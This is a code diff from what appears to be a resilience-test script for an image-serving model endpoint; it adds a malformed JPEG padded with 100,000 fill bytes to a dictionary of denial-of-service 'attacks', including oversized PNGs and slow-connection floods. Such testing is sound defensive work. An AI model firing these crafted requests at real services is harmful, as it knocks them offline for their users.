@@ -43,13 +43,25 @@ def post(body: bytes, coding: str = "identity") -> bytes:
     return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body
 
 
+def files(content: bytes, count: int = 1) -> bytes:
+    """Return a request of so many times an image file."""
+    text = {"b64": base64.b64encode(content).decode()}
+    body = {"signature_name": "serve_bytes", "instances": [text] * count}
+    return post(json.dumps(body).encode())
+
+
 def pngs(count: int, million: float) -> bytes:
     """Return a request of transparent PNG files, of so many million pixels each."""
     file, side = io.BytesIO(), int((million * 1e6) ** 0.5)
     Image.new("RGBA", (side, side)).save(file, "PNG")
-    text = {"b64": base64.b64encode(file.getvalue()).decode()}
-    body = {"signature_name": "serve_bytes", "instances": [text] * count}
-    return post(json.dumps(body).encode())
+    return files(file.getvalue(), count)
+
+
+def filled(count: int) -> bytes:
+    """Return a request of a JPEG file with so many bytes that only fill."""
+    file = io.BytesIO()
+    Image.new("RGB", (32, 32)).save(file, "JPEG")
+    return files(file.getvalue()[:2] + b"\xff" * count + file.getvalue()[2:])
 
 
 def packed(item: bytes, count: int) -> bytes:
@@ -75,6 +87,7 @@ ATTACKS = {
     "PNG of 24 million pixels, and 100 of 12": lambda: [pngs(1, 24), pngs(100, 12)],
     "a PNG of 12 million pixels, which is read": lambda: [pngs(1, 12)],
     "100 PNG of 0.45 million pixels, which are read": lambda: [pngs(100, 0.45)],
+    "a JPEG with 100,000 bytes that only fill": lambda: [filled(100_000)],
     "PNG of 12 million pixels, left at once": lambda: [pngs(4, 12)],
     "500 connections with slow headers": 500,
     "500 connections with slow bodies": 500,
